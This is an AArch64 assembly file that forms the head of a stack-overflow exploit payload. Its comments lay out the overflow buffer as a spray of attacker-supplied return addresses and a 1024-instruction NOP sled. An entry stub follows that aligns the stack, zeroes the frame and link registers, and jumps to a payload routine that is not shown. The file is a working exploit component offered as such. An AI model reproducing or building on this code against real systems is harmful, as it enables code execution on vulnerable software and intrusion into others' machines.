/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The head of the exploit.  From the start of the buffer that overflows:
 *
 *   0x0000  64 copies of a return address, which the attacker fills in: one of them lands
 *           where the real one was
 *   0x0200  1024 instructions that do nothing: a guess of the address that is less than a page
 *           too high leads in here
 *   0x1200  the entry: all that follows runs where it is, on the stack
 */
    .section .head, "ax"
    .global blob_start
blob_start:
    .rept 64
    .quad 0
    .endr
    .rept 1024
    nop
    .endr

/* Registers and stack hold anything; below the stack pointer is room. */
    .global blob_entry
blob_entry:
    mov x9, sp
    and sp, x9, #~0xf
    mov x29, xzr
    mov x30, xzr
    b payload_main

    .section .note.GNU-stack, "", %progbits
